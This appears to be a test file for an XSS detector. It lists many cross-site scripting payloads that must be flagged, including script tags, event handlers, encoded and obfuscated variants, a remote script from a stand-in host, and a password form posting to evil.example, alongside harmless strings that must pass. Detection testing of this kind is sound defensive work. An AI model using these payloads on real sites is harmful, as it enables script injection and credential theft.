import { test } from 'node:test';
import { assertClean, assertDetected } from './helpers.ts';

test('xss: script-capable tags and event handlers', () => {
  assertDetected('xss', [
    '<script>alert(1)</script>',
    '<ScRiPt SRC=//x.example/a.js>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<body onload="alert(1)">',
    '<x onxxx=alert(1) ',
    '<iframe src="https://evil.example">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<div style="width: expression(alert(1))">',
    '</script><script>alert(1)</script>',
    '</title><img src=x onerror=alert(1)>',
  ]);
});

test('xss: encoded and obfuscated markup', () => {
  assertDetected('xss', [
    '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    '&lt;img src=x onerror=alert(1)&gt;',
    '＜script＞alert(1)＜/script＞',
    '%253Csvg%2520onload%253Dalert(1)%253E',
  ]);
});

test('xss: attribute breakouts and script sinks without a tag', () => {
  assertDetected('xss', [
    '" onmouseover=alert(1) x="',
    "' onfocus='alert(1)' autofocus='",
    '"autofocus/onfocus=alert(1)//',
    "'-alert(1)-'",
    '";alert(document.cookie);//',
    'javascript:alert(1)',
    'alert`1`',
    'alert&lpar;1&rpar;',
    'top["al"+"ert"](1)',
    'al\\u0065rt(1)',
    '[1].find(alert)',
  ]);
});

test('xss: harmless markup and prose stay clean', () => {
  assertClean([
    '<p>Handmade <em>ceramic</em> mug</p>',
    '<b>Sale</b>',
    '<a href="https://example.com/help">help</a>',
    'The manual says: press <Enter> to continue',
    'lol ;) xD <3',
    'I have a 2>1 chance of winning',
    'The script tag goes in the head section',
    'javascript tutorial for beginners',
    'JavaScript: the good parts',
    'alert box colors in CSS',
    'onload vs DOMContentLoaded',
    '<b>Only online=true</b>',
    'a <= b and c >= d',
    'regular expression (regex) help',
  ]);
});

test('xss: forms, document tags, SVG link animation, data binding, XSLT', () => {
  assertDetected('xss', [
    '<form action="https://evil.example/login"><input name="password"></form>',
    '<body>Hello</body>',
    '<IMG SRC="livescript:[code]">',
    '<set attributeName="xlink:href" to="//example.com/?a" />',
    '<label dataformatas="html" datasrc="#xss" datafld="payload"></label>',
    '<?xml-stylesheet type="text/xsl" href="#"?>',
    '<if expr="new ActiveXObject(\'htmlfile\').parentWindow.alert(2)"></if>',
  ]);
});

test('xss: markup injection past the tag scanner (parser tricks, CSS URLs, namespaces, forms, dangling markup)', () => {
  assertDetected('xss', [
    '<x </onxxx=1',
    '<x 1=">" onxxx=1',
    '<div style=content:url(test2.svg)></div>',
    '<div style="\\63&#9\\06f&#10\\0006c">X</div>',
    '<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="?">',
    '</html>//["\'`-->]]>]</div>',
    '<input name="password" type="password" value="secret" />',
    '<rect fill="white" width="1000" height="1000"/>',
    '<div id="x">XXX</div>',
    '<!-- swallow the rest of the page',
    "<? echo('<SCR)';",
    '*{color:gre/**/en !/**/important}',
  ]);
});

test('xss: the new markup rules leave prose and plain formatting alone', () => {
  assertClean([
    '<b>Only online=true</b>',
    '<p>Thanks for your <strong>fast</strong> reply!</p>',
    '<ul><li>one</li><li>two</li></ul>',
    'Use <br> for a line break in the description field',
    '<!-- a comment -->',
    'The value must be >= 10 and <= 20',
    'Set the style in the settings page',
    'a {margin: 0} /* reset */',
  ]);
});
